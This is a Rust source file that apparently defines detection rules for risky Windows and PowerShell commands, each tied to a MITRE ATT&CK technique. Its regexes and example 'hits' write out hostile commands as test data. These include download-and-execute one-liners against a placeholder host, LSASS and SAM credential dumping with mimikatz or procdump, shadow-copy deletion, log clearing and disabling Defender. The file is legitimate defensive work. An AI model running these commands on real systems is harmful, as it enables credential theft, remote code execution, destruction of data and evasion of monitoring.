//! The same on Windows, where sessions are PowerShell's.
//!
//! Nothing here is exact about backslashes: texts are taken apart as a POSIX shell does, which takes them for its own.

use super::Severity::{Critical, High, Medium};
use super::{Shipped, command};

pub(super) const RULES: &[Shipped] = &[
    command(
        High,
        "windows-logs-cleared",
        "an event log of Windows is cleared, or the history of PowerShell",
        r"^(?i:wevtutil(?:\.exe)? (?:cl|clear-log) |clear-eventlog |remove-eventlog |remove-item [^|]*consolehost_history|set-psreadline(?:option|) [^|]*-historysavestyle savenothing|fsutil(?:\.exe)? usn deletejournal)",
    )
    .why("What was done before can no longer be read there.", &["MITRE ATT&CK T1070.001"])
    .hits(&["wevtutil cl Security", "Clear-EventLog -LogName System", "Set-PSReadLineOption -HistorySaveStyle SaveNothing"])
    .misses(&["wevtutil qe System /c:5", "Get-EventLog -LogName System -Newest 10", "Get-WinEvent -LogName Security", "Set-PSReadLineOption -EditMode Emacs"]),
    command(
        High,
        "windows-defence-off",
        "Defender, the firewall or an agent of Windows is switched off",
        r"^(?i:set-mppreference [^|]*-disable\w+ (?:\$true|1)|add-mppreference [^|]*-exclusion|set-netfirewallprofile [^|]*-enabled (?:false|\$false)|netsh(?:\.exe)? advfirewall set \w+ state off|(?:stop-service|set-service|sc(?:\.exe)? (?:stop|delete|config)|net(?:\.exe)? stop) (?:[^|]* )?(?:amazonssmagent|amazoncloudwatchagent|windefend|mpssvc|eventlog|sysmon\w*|csfalconservice|sense)(?: |$)|auditpol(?:\.exe)? [^|]*(?:/clear|/success:disable|/failure:disable))",
    )
    .unless(r"(?i)-startuptype automatic|start= auto|-status running")
    .why("From then on others see less of what happens here.", &["MITRE ATT&CK T1562.001"])
    .hits(&["Set-MpPreference -DisableRealtimeMonitoring $true", "Stop-Service AmazonSSMAgent -Force", "netsh advfirewall set allprofiles state off", "auditpol /clear /y"])
    .misses(&["Get-MpPreference", "Restart-Service AmazonSSMAgent", "Get-NetFirewallProfile", "Stop-Service w3svc", "Set-Service AmazonSSMAgent -StartupType Automatic"]),
    command(
        Medium,
        "windows-user-added",
        "a user of Windows is added, or joins the administrators",
        r"^(?i:net1?(?:\.exe)? (?:user \S+ [^|]*/add|localgroup \S+ [^|]*/add)|new-localuser |add-localgroupmember |add-adgroupmember )",
    )
    .why("A name to come back with.", &["MITRE ATT&CK T1136.001"])
    .hits(&["net user eve Passw0rd /add", "net localgroup administrators eve /add", "Add-LocalGroupMember -Group Administrators -Member eve"])
    .misses(&["net user", "Get-LocalUser", "net localgroup administrators", "Get-LocalGroupMember Administrators"]),
    command(
        Medium,
        "windows-task-added",
        "something is made to run at times of its own, or with Windows",
        r"^(?i:schtasks(?:\.exe)? (?:[^|]* )?/create|register-scheduledtask |new-service |sc(?:\.exe)? create |reg(?:\.exe)? add [^|]*currentversion\S*run|set-wmiinstance )",
    )
    .why("It goes on when the session is over.", &["MITRE ATT&CK T1053.005"])
    .hits(&["schtasks /create /tn x /tr y /sc onlogon", "Register-ScheduledTask -TaskName x -Action $a", "sc.exe create x binPath= y"])
    .misses(&["schtasks /query", "Get-ScheduledTask", "Get-Service", "sc.exe query w3svc"]),
    command(
        High,
        "windows-hidden-run",
        "PowerShell runs what is encoded, or what it has just fetched",
        r"^(?i:(?:powershell|pwsh)(?:\.exe)? (?:[^|]* )?-e(?:nc|ncodedcommand|c)? [a-z0-9+/=]{16,}|(?:iex|invoke-expression) [^|]*(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|frombase64string)|(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod) [^|]*\| (?:iex|invoke-expression)(?: |$)|(?:certutil(?:\.exe)? [^|]*-(?:urlcache|decode)|bitsadmin(?:\.exe)? [^|]*/transfer|mshta(?:\.exe)? \S*https?:|regsvr32(?:\.exe)? [^|]*/i:http))",
    )
    .why("Nobody sees what it is.", &["MITRE ATT&CK T1059.001"])
    .hits(&["powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "iwr https://x.example/a.ps1 | iex", "certutil -urlcache -f http://x.example/a.exe a.exe"])
    .misses(&["powershell -File deploy.ps1", "Invoke-WebRequest http://localhost/health", "certutil -dump cert.cer", "iwr https://x.example/a.zip -OutFile a.zip"]),
    command(
        Critical,
        "windows-credentials-dumped",
        "passwords or hashes of Windows are taken out of it",
        r"^(?i:reg(?:\.exe)? save (?:hklm|hkey_local_machine)\S*(?:sam|system|security)(?: |$)|(?:\S*mimikatz|\S*procdump(?:64)?)(?:\.exe)? |ntdsutil(?:\.exe)? [^|]*ifm|vssadmin(?:\.exe)? create shadow|rundll32(?:\.exe)? \S*comsvcs)",
    )
    .why("Whoever has them may be anybody who logged in there.", &["MITRE ATT&CK T1003"])
    .hits(&["reg save HKLM\\SAM sam.hiv", "procdump -ma lsass.exe x.dmp", "mimikatz.exe privilege::debug"])
    .misses(&["reg query HKLM\\SOFTWARE", "vssadmin list shadows", "rundll32 printui.dll", "Get-Process lsass"]),
    command(
        High,
        "windows-data-destroyed",
        "volumes, copies or the system of Windows are deleted",
        r"^(?i:vssadmin(?:\.exe)? delete shadows|wbadmin(?:\.exe)? delete|bcdedit(?:\.exe)? [^|]*recoveryenabled no|format-volume |clear-disk |(?:remove-item|rm|ri|del|rd|rmdir) (?:[^|]* )?[a-z]:/?(?:windows|users|\*)?/?(?: |$)|cipher(?:\.exe)? /w:)",
    )
    .unless(r"^(?:rm|rmdir) -")
    .why("What is gone with them comes back from a backup alone.", &["MITRE ATT&CK T1490"])
    .hits(&["vssadmin delete shadows /all /quiet", "Remove-Item -Recurse -Force C:\\Windows", "Format-Volume -DriveLetter D"])
    .misses(&["vssadmin list shadows", "Remove-Item C:\\Temp\\x.log", "Get-Volume", "del C:\\Temp\\*.tmp"]),
];
